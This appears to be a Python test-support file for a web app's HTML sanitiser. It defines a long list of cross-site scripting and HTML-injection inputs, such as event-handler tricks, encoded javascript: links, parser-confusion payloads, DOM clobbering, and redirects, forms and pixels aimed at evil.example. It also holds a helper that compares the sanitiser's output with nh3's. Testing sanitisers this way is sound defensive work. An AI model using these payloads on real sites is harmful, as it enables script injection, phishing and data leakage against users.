"""What the sanitiser is tried with, and how two pieces of HTML are compared."""

import json
from html.parser import HTMLParser
from pathlib import Path

import nh3

from app.kernel import html

DATA = Path(__file__).parents[3] / "shared" / "data"

ATTRIBUTES = {
    "*": {"id"},
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "code": {"class"},
    "details": {"open"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "ol": {"start"},
    "td": {"class", "colspan", "rowspan"},
    "th": {"class", "colspan", "rowspan"},
}
"""What an article may have, said a second time for nh3."""

CASES = [
    # handlers, whatever they are written with
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>", "<img src=`x`onerror=alert(1)>", "<img alt='`' title='`><img src=x onerror=alert(1)>'>",
    "<p onmouseover=alert(1)>a</p>", "<details open ontoggle=alert(1)>", "<a href=# onclick=alert(1)>x</a>",
    "<b onfocus=alert(1) autofocus tabindex=1>x</b>", "<p onanimationstart=alert(1) style=animation:x>", "<br onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>", "<body onload=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<table background='javascript:alert(1)'><tr><td>",
    "<td onclick=alert(1)>x", "<x onclick=alert(1)>x</x>", "<a autofocus onfocus=alert(1) href=#>",
    # addresses
    "<a href='javascript:alert(1)'>x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>", "<a href='&#1;javascript:alert(1)'>x</a>", "<a href='java&#0000000010;script:alert(1)'>x</a>",
    "<a href='&#106&#97vascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='javascript\0:alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>", "<a href='//evil.example/x'>x</a>", "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='blob:x'>x</a>", "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='jar:javascript:alert(1)!/'>x</a>", "<a href='http:alert(1)'>x</a>", "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>",
    "<a ping=http://evil.example href=/>x</a>", "<a href=/ target=_blank>x</a>", "<a download href=/>x</a>", "<a rel=opener href=//evil.example>x</a>",
    "<img src=javascript:alert(1)>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<img srcset='http://evil.example/x 2x'>",
    "<img src=http://evil.example/pixel.png>", "<img src=/files/../admin>", "<img lowsrc=http://evil.example/x dynsrc=http://evil.example/y>",
    "<img src=/help usemap=#x ismap>", "<q cite=javascript:alert(1)>x</q>", "<blockquote cite=http://evil.example>x</blockquote>",
    "<del cite=javascript:alert(1)>x</del>", "<body background=http://evil.example/x>", "<table background=http://evil.example/x>",
    # what is parsed twice, or differently inside something else
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>", "<title><img src=x onerror=alert(1)></title>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<template><img src=x onerror=alert(1)></template>", "<plaintext><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'>", "<select><noscript><style><!--</noscript><img src=x onerror=alert(1)>-->",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<svg><foreignObject><img src=x onerror=alert(1)>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x>'></svg>", "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>-->", "<!-- --!> <img src=x onerror=alert(1)> -->", "<![if true]><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<//><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script/x>alert(1)</script\t>", "<scr\0ipt>alert(1)</scr\0ipt>", "<script>alert(1)",
    "</p><script>alert(1)</script>", "<p title=\"&quot;><img src=x onerror=alert(1)>\">x</p>", "<a title='\"><img src=x onerror=alert(1)>' href=/>x</a>",
    "<code class='language-x\" onclick=\"alert(1)'>x</code>", "<abbr title='&lt;img src=x onerror=alert(1)&gt;'>x</abbr>", "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;", "<a href='x' <img src=x onerror=alert(1)>", "<a href=\"x\"onclick=\"alert(1)\">", "<table><img src=x onerror=alert(1)><td>", "\ud800<b>\udfff</b>",
    "<a><table><a href=javascript:alert(1)></table></a>", "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></p>", "<b\0onclick=alert(1)>x", "<b\u000conclick=alert(1)>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<a href='&#" + "1" * 5000 + ";'>x</a>", "<img alt='&#x" + "f" * 5000 + ";'>", "\u2028<script>\u2029alert(1)</script>",
    # what changes the page around it
    "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>", "<p style='background:url(http://evil.example/x)'>x</p>", "<div style='position:fixed;inset:0'>x</div>",
    "<form action=http://evil.example><input name=password><button>Sign in</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input type=image src=http://evil.example/x>",
    "<isindex action=javascript:alert(1)>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>",
    "<p id=location>x</p>", "<a id=body name=documentElement href=/>x</a>", "<img name=getElementById src=x>", "<a id=config><a id=config name=url href=//evil.example>", "<h2 id=on-top>x</h2>",
    "<p class='btn modal-open'>x</p>", "<a class=btn href=/>x</a>", "<p hx-get=/admin hx-trigger=load>x</p>", "<p data-hx-get=/admin>x</p>", "<p hx-on:load=alert(1)>x</p>", "<p is=x slot=y>x</p>",
    "<p contenteditable accesskey=x dir=rtl>x</p>", "<dialog open>x</dialog>", "<p popover>x</p>", "<portal src=//evil.example>", "<map name=x><area href=javascript:alert(1)></map>", "<slot>x</slot>",
]  # fmt: skip
"""HTML as attackers write it: handlers, split and encoded schemes, text that is parsed twice, names that shadow ours."""


def payloads() -> list[str]:
    """The blocks of OWASP's cheat sheet on evading filters."""
    return list(json.loads((DATA / "owasp_xss_payloads.json").read_text()))


def examples() -> list[dict[str, str]]:
    """The examples of the CommonMark specification."""
    return list(json.loads((DATA / "commonmark.json").read_text()))


class Read(HTMLParser):
    """HTML as a parser reads it: its elements with their attributes, and its words."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(str(text))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data


def left_to_remove(text: str) -> list[object]:
    """What nh3, asked for the same, still takes away from `text` or changes in it."""
    again = nh3.clean(
        text,
        tags=set(html.TAGS),
        attributes={tag: set(names) for tag, names in ATTRIBUTES.items()},
        url_schemes=set(html.SCHEMES),
        link_rel=None,
    )
    before, after = Read(text), Read(again)
    kept = list(after.elements)
    changed: list[object] = [one for one in before.elements if one not in kept or kept.remove(one)]  # type: ignore[func-returns-value]
    return changed if before.words == after.words else [*changed, before.words]
